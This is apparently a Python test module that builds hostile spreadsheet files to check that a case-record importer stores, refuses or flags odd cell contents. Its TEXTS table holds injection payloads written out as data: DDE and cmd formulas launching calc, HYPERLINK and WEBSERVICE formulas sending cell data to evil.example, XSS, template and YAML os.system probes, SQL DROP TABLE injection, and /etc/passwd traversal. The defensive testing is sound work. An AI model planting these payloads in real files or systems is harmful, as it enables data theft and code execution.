"""Cells that want to be more than text, and cells that are less."""

# ruff: noqa: E501 - tables of examples are read line by line

from __future__ import annotations

import re
from collections.abc import Callable, Iterator

from tests.hostile.files import Hostile, Refused, Taken, number
from tests.hostile.package import (
    DAY,
    FIRST_SHARED,
    SHEET,
    STORY,
    STRINGS,
    Cell,
    Raw,
    book,
    honest,
    parts,
    rows_xml,
    text_cell,
)

#: Texts that some program on the way might run, believe or lose: name -> text.
TEXTS: dict[str, str] = {
    "a formula that runs a program": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "full-width signs": "＝1+1 ＋1 －1 ＠SUM(A1)",
    "a full-width at": "＠SUM(1,2)",
    "a formula behind a space": " =1+1",
    "a formula behind a line": "头\n=1+1\r=2+2",
    "a link": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "a question to the web": '=WEBSERVICE("http://evil.example/"&A1)',
    "DDE": '=DDE("cmd";"/C calc";"x")',
    "an array formula": "{=SUM(A1:A9)}",
    "a script": "<script>alert(1)</script>",
    "a broken script": "</script><script src=//evil.example></script>",
    "a handler": "\"><img src=x onerror=alert(1)>' onmouseover='alert(1)",
    "a comment that is not closed": "<!-- <svg/onload=alert(1)> <textarea><title>",
    "entities": "&lt;b&gt; &amp;amp; &#60;i&#62; &nbsp;&copy",
    "a template": "{{7*7}} {{ config.items() }} {{ ''.__class__.__mro__ }}",
    "a template block": "{% for x in y %}{{ x }}{% endfor %} {# no #}",
    "a paper's template": "{%p if x %}{{r x}}{%tr for a in b %}{%- endraw -%}",
    "dollars": "${7*7} #{7*7} %{7*7} <%= 7*7 %> $(id) `id`",
    "formats": "%s %d %n {0} {0.__class__} %(x)s {x!r}",
    "YAML": "!!python/object/apply:os.system ['id'] &a [*a, *a] - x: {",
    "SQL": "'; DROP TABLE case_main; -- \" OR 1=1 /* */ % _ \\",
    "JSON": '{"a": "\\u0000", "b": [1, null]} "],"x":["',
    "paths": "../../etc/passwd C:\\Windows\\win.ini file:///etc/passwd \\\\evil\\share",
    "word fields": 'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" { INCLUDETEXT "x" } <w:br/> <w:fldSimple w:instr="x"/>',
    "from right to left": "金额\u202e0001 元\u202c \u2066隐\u2069 \u200f右\u061c",
    "zero width": "张\u200b三\u200c李\u200d四\ufeff王\u2060",
    "combining marks": "e" + "\u0301\u0323" * 60 + "好",
    "emoji": "👨‍👩‍👧‍👦🏳️‍🌈😀🀄",
    "rare characters": "𠀀𪜀𫝀𫠠𬺰𮯠𰀀𱍐㐀䶿龥豈\U000e0100",
    "private and unassigned": "\ue000\uf8ff\U000f0000\U0010fffd",
    "noncharacters": "a\ufdd0b\U0001fffe",
    "other line ends": "一\u2028二\u2029三\x85四\r五\r\n六\n七",
    "controls": "a\x01b\x0bc\x1fd\x7fe\x9bf",
    "Excel's escapes": "_x0041_ _x000D_ _x005F_x0041_ _xD800_",
    "tabs": "甲\t乙\t\t丙",
    "spaces": "甲  乙\u3000\u00a0丙\u2003丁",
    "5,000 lines": "\n".join(f"第{at}行" for at in range(5_000)),
    "32,767 characters": "字" * 32_767,
    "40,000 characters": "句" * 40_000,
}
#: What XML cannot say, so that no workbook brings it.
NOT_IN_XML = ("controls", "noncharacters")


def story(no: str, at: int, text: str) -> list[Cell]:
    """A row with the text as its story, its result and what an unknown column says."""
    return honest(no, at, 简要情况=text, 调解结果=text, 怪列=text)


def kept(text: str) -> dict[str, str]:
    """What must be stored: the text itself, without the spaces at its ends."""
    return {"summary": text.strip(), "result_text": text.strip(), "extra": text.strip()}


def own_cells(no: str, texts: list[str]) -> bytes:
    """Every text in its own cell."""
    return book([story(no, at, text) for at, text in enumerate(texts)])


def shared(no: str, texts: list[str]) -> bytes:
    """Every text among the shared ones, the rich way and the plain way in turn."""
    items = []
    for at, text in enumerate(texts):
        inner = text_cell(text).xml.partition("<is>")[2].partition("</is>")[0]
        items.append(
            f"<si>{inner}</si>" if at % 2 else f"<si><r><rPr><b/></rPr>{inner}</r><rPh><t>读音</t></rPh></si>"
        )
    strings = parts([])[STRINGS].decode().partition("<si>")[0] + "".join(items) + "</sst>"
    cells = [Raw(f'<c r="{{r}}" t="s"><v>{at}</v></c>') for at in range(len(texts))]
    rows = [honest(no, at, 简要情况=cell, 调解结果=cell, 怪列=cell) for at, cell in enumerate(cells)]
    return book(rows, {STRINGS: strings.encode()})


def results(no: str, texts: list[str]) -> bytes:
    """Every text as the stored result of a formula."""
    rows = []
    for at, text in enumerate(texts):
        inner = (
            text_cell(text)
            .xml.partition("<is>")[2]
            .partition("</is>")[0]
            .replace("<t ", "<v ")
            .replace("</t>", "</v>")
        )
        cell = Raw(f'<c r="{{r}}" t="str"><f>CONCATENATE("x")</f>{inner}</c>')
        rows.append(honest(no, at, 简要情况=cell, 调解结果=cell, 怪列=cell))
    return book(rows)


def number_cell(said: str, style: int = 0) -> Raw:
    """A number as the file says it."""
    return Raw(f'<c r="{{r}}" s="{style}"><v>{said}</v></c>')


def amount(said: str, **expected: object) -> tuple[str, Callable[[str], bytes], Taken]:
    """An amount as a number cell."""
    make = lambda no: book([honest(no, 涉及金额=number_cell(said))])  # noqa: E731 - as its neighbours are
    return f"the amount {said}", make, Taken(({"summary": STORY, **expected},))


def day(
    said: str, outcome: dict[str, object] | str, style: int = 1
) -> tuple[str, Callable[[str], bytes], Taken]:
    """A registration date as a number cell."""
    make = lambda no: book([honest(no, 登记日期=number_cell(said, style))])  # noqa: E731
    return f"the date {said}{'' if style else ' without format'}", make, Taken((outcome,))


def extra_row(cells: str) -> Callable[[str], bytes]:
    """An honest workbook and some cells more."""
    return lambda no: book([honest(no)], more=cells.replace("{no}", no))


def cell_changed(old: str, new: str) -> Callable[[str], bytes]:
    """An honest workbook whose sheet says something else."""
    return lambda no: book(
        [honest(no)], {SHEET: parts([honest(no)])[SHEET].replace(old.encode(), new.encode())}
    )


def merged(*ranges: str, rows: int = 1) -> Callable[[str], bytes]:
    """Merged ranges over honest rows."""
    cells = "".join(f'<mergeCell ref="{one}"/>' for one in ranges)
    behind = f'<mergeCells count="{len(ranges)}">{cells}</mergeCells>'
    return lambda no: book([honest(no, at) for at in range(rows)], behind=behind)


def tables() -> Iterator[tuple[str, Callable[[str], bytes], Refused | Taken]]:
    """Name, maker, outcome."""
    fine = Taken(({"summary": STORY},))
    for name, text in TEXTS.items():
        if name not in NOT_IN_XML:
            yield f"{name}, in its own cell", lambda no, t=text: own_cells(no, [t]), Taken((kept(text),))
    for way, make in {"shared": shared, "results of formulas": results}.items():
        texts = [text for name, text in TEXTS.items() if name not in NOT_IN_XML]
        yield f"all texts, {way}", lambda no, m=make, t=texts: m(no, t), Taken(tuple(map(kept, texts)))
    yield (
        "control characters as they are",
        lambda no: own_cells(no, [TEXTS["controls"]]),
        Taken((kept(TEXTS["controls"]),)),
    )
    yield (
        "control characters as Excel writes them",
        lambda no: book(
            [honest(no, 简要情况=Raw('<c r="{r}" t="inlineStr"><is><t>甲_x0001_乙_x000D_丙</t></is></c>'))]
        ),
        Taken(({"summary": "甲\x01乙\r丙"},)),
    )
    yield (
        "half characters as references",
        lambda no: book(
            [honest(no, 简要情况=Raw('<c r="{r}" t="inlineStr"><is><t>甲&#xD800;乙</t></is></c>'))]
        ),
        Refused("损坏"),
    )
    yield (
        "a zero character as reference",
        lambda no: book([honest(no, 简要情况=Raw('<c r="{r}" t="inlineStr"><is><t>甲&#0;乙</t></is></c>'))]),
        Refused("损坏"),
    )
    yield (
        "a million characters",
        lambda no: own_cells(no, ["长" * 1_000_000]),
        Taken((kept("长" * 1_000_000),)),
    )
    yield "ten million characters", lambda no: own_cells(no, ["长" * 10_000_000]), Refused("损坏")
    for said in ("NaN", "INF", "-INF", "1e308", "1e999", "-0", "0x10", "1,5", "一", "1_000", "٣", ""):
        yield amount(said)
    yield day("45964", {"received_at": "2025-11-03"})
    for said in ("0", "-1", "60", "1e9", "2958466", "NaN", "1e308", "46000.99999999"):
        yield day(said, "登记日期不可能")
    yield day("20251103", {"received_at": "2025-11-03"}, 0)
    for code in ("#REF!", "#DIV/0!", "#N/A", "#VALUE!", "#NAME?", "#NULL!", "#NUM!"):
        said = code.replace("<", "&lt;")
        yield (
            f"the error {code}",
            lambda no, s=said: book([honest(no, 简要情况=Raw(f'<c r="{{r}}" t="e"><v>{s}</v></c>'))]),
            Taken(({"summary": None},), "公式出错"),
        )
    for code in (
        *("#SPILL!", "#CALC!", "#BUSY!", "#FIELD!", "#BLOCKED!", "#CONNECT!", "#UNKNOWN!", "#PYTHON!"),
        *("#GETTING_DATA", "#EXTERNAL!", "#n/a", " #REF!", "=cmd|x", "1"),
    ):
        yield (
            f"the error {code}",
            lambda no, s=code: book(
                [
                    honest(no, 简要情况=Raw(f'<c r="{{r}}" t="e"><v>{s}</v></c>'), 调解结果="<v>#SPILL!</v>"),
                    honest(no, 1, 简要情况=Raw(f"<c t = 'e' r='{{r}}'><f>1+1</f><v>{s}</v></c>")),
                    honest(no, 2),
                ]
            ),
            Taken(
                (
                    {"summary": None, "result_text": "<v>#SPILL!</v>"},
                    {"summary": None, "people_count": None},
                    {"summary": STORY},
                ),
                f"公式出错（{code}）",
            ),
        )
    yield (
        "3,000 errors that Excel has learned since",
        lambda no: book(
            [honest(no, at, 怪列=Raw('<c r="{r}" t="e"><v>#SPILL!</v></c>')) for at in range(3_000)]
        ),
        Taken(({"summary": STORY},) * 3_000, "公式出错（#SPILL!）"),
    )
    yield (
        "a boolean that is neither",
        lambda no: book([honest(no, 怪列=Raw('<c r="{r}" t="b"><v>7</v></c>'))]),
        Refused("损坏"),
    )
    yield (
        "booleans",
        lambda no: book(
            [
                honest(
                    no,
                    简要情况=Raw('<c r="{r}" t="b"><v>1</v></c>'),
                    怪列=Raw('<c r="{r}" t="b"><v>0</v></c>'),
                )
            ]
        ),
        Taken(({"summary": "TRUE", "extra": "FALSE"},)),
    )
    yield (
        "a kind of cell that nobody knows",
        lambda no: book([honest(no, 简要情况=Raw('<c r="{r}" t="evil"><v>x</v></c>'))]),
        Refused("损坏"),
    )
    yield (
        "a day as text of ISO",
        lambda no: book([honest(no, 登记日期=Raw('<c r="{r}" t="d"><v>2025-11-03T10:00:00</v></c>'))]),
        Taken(({"received_at": "2025-11-03"},)),
    )
    yield (
        "an ISO day that is none",
        lambda no: book([honest(no, 登记日期=Raw('<c r="{r}" t="d"><v>2025-99-99</v></c>'))]),
        Taken(("登记日期不可能",)),
    )
    for place in ("XFD1048576", "XFD3", "A1048576", "AAA3"):
        yield f"a cell at {place}", extra_row(f'<row r="9"><c r="{place}"><v>1</v></c></row>'), Refused(place)
    for place in ("AAAA3", "A99999999999", "xfd1048576"):
        yield (
            f"a cell at {place}",
            extra_row(f'<row r="9"><c r="{place}"><v>1</v></c></row>'),
            Refused("超出了能读取的范围"),
        )
    yield (
        "a cell in a small column",
        extra_row('<row r="3"><c r="a3"><v>1</v></c></row>'),
        Taken(({"summary": STORY}, "登记日期缺失")),
    )
    for cell in (
        '<c r = "{}"><v>1</v></c>',
        '<c  r ="{}" ><v>1</v></c>',
        '<c r= "{}"><v>1</v></c>',
        '<c r\n=\t"{}"><v>1</v></c>',
        "<c r = '{}'><v>1</v></c>",
        '<c x=">" r = "{}"><v>1</v></c>',
    ):
        for place in ("XFD1048576", "XFD3", "A1048576"):
            said = cell.format(place)
            yield f"a far cell written {said!r}", extra_row(f'<row r="9">{said}</row>'), Refused(place)
    yield (
        "a far cell in characters by number",
        extra_row('<row r="9"><c r="&#88;FD1048576"><v>1</v></c></row>'),
        Refused("损坏"),
    )
    yield (
        "a story of equals",
        lambda no: book([honest(no, 简要情况='甲 = "乙" = \'丙\' r = "XFD1" <c r = "XFD1">')]),
        Taken(({"summary": '甲 = "乙" = \'丙\' r = "XFD1" <c r = "XFD1">'},)),
    )
    for place in ("A-1", "1A", "A", "3", "", "甲1", "R1C1", "$A$3"):
        yield (
            f"a cell at {place!r}",
            extra_row(f'<row r="3"><c r="{place}"><v>1</v></c></row>'),
            Refused("损坏"),
        )
    yield "a cell in row 0", extra_row('<row r="0"><c r="A0"><v>1</v></c></row>'), Refused("损坏")
    yield "a row below zero", extra_row('<row r="-1"><c><v>1</v></c></row>'), Refused("损坏")
    yield "a row beyond all", extra_row('<row r="99999999999"><c><v>1</v></c></row>'), Refused("损坏")
    yield (
        "no addresses at all",
        lambda no: book([honest(no)], {SHEET: _without_addresses(parts([honest(no)])[SHEET])}),
        fine,
    )
    yield (
        "a cell twice",
        extra_row('<row r="2"><c r="E2" t="inlineStr"><is><t>第二句</t></is></c></row>'),
        Taken(({"summary": "第二句"},)),
    )
    yield (
        "rows out of order",
        lambda no: book([], more=_rows_backwards(no)),
        Taken(({"summary": "早"}, {"summary": "晚"})),
    )
    yield (
        "a cell that lies in another row",
        cell_changed('r="E2"', 'r="E7"'),
        Taken(({"summary": None}, "登记日期缺失")),
    )
    for index, said in {"": None, "0": FIRST_SHARED, "00": FIRST_SHARED}.items():
        yield (
            f"the shared text {index!r}",
            lambda no, i=index: book([honest(no, 简要情况=Raw(f'<c r="{{r}}" t="s"><v>{i}</v></c>'))]),
            Taken(({"summary": said},)),
        )
    yield (
        "a shared text behind a formula",
        lambda no: book([honest(no, 简要情况=Raw('<c r="{r}" t="s"><f>A1</f><v>0</v></c>'))]),
        Taken(({"summary": FIRST_SHARED},)),
    )
    yield (
        "a shared text of no number behind a formula and spaces",
        lambda no: book([honest(no, 简要情况=Raw('<c r="{r}" t = "s" >\n<f>A1</f> <v >-1</v></c>'))]),
        Refused("损坏"),
    )
    for index in (
        *("9", "99999999", "4294967296", "18446744073709551616"),
        *("-1", "x", " 0", "+0", "0.0", "0x0", "1e0", "零", "<!-- -->0"),
    ):
        yield (
            f"the shared text {index!r}",
            lambda no, i=index: book([honest(no, 简要情况=Raw(f'<c r="{{r}}" t="s"><v>{i}</v></c>'))]),
            Refused("损坏"),
        )
    for style in ("9", "99999999", "-1", "x"):
        yield (
            f"the style {style!r}",
            lambda no, s=style: book(
                [honest(no, 简要情况=Raw(f'<c r="{{r}}" s="{s}" t="inlineStr"><is><t>字</t></is></c>'))]
            ),
            Taken(({"summary": "字"},)),
        )
    yield "merges that overlap", merged("A2:C3", "B2:D4", "A2:C3", rows=3), Taken(({"summary": STORY},) * 3)
    yield "the whole sheet merged", merged("A1:XFD1048576"), fine
    yield "a merge upside down", merged("C9:A2", "A0:B0", "XFE1:XFF2"), Refused("损坏")
    yield "a million merges", merged(*(f"A{at}:B{at}" for at in range(10, 1_000_010))), Refused("损坏")
    yield (
        "a formula without result",
        lambda no: book(
            [honest(no, 简要情况=Raw('<c r="{r}"><f>WEBSERVICE("http://evil.example")</f></c>'))]
        ),
        Taken(({"summary": None},), "没有保存计算结果"),
    )
    yield (
        "a formula that refers to itself",
        lambda no: book([honest(no, 简要情况=Raw('<c r="{r}" t="str"><f>E2&amp;E2</f><v>旧</v></c>'))]),
        Taken(({"summary": "旧"},)),
    )
    yield (
        "a table of a formula over everything",
        lambda no: book(
            [
                honest(
                    no, 简要情况=Raw('<c r="{r}" t="str"><f t="array" ref="A1:XFD1048576">1</f><v>旧</v></c>')
                )
            ]
        ),
        Taken(({"summary": "旧"},)),
    )
    yield (
        "a shared formula of nobody",
        lambda no: book(
            [honest(no, 简要情况=Raw('<c r="{r}" t="str"><f t="shared" si="99999999"/><v>旧</v></c>'))]
        ),
        Taken(({"summary": "旧"},)),
    )


def _without_addresses(sheet: bytes) -> bytes:
    return re.sub(rb' r="[A-Z]*\d+"', b"", sheet)


def _rows_backwards(no: str) -> str:
    early, late = honest(no, 0, 简要情况="早", 登记日期=DAY), honest(number(no, 0), 1, 简要情况="晚")
    return rows_xml([late], 3) + rows_xml([early], 2)


FILES = [Hostile("cells", name, make, outcome) for name, make, outcome in tables()]
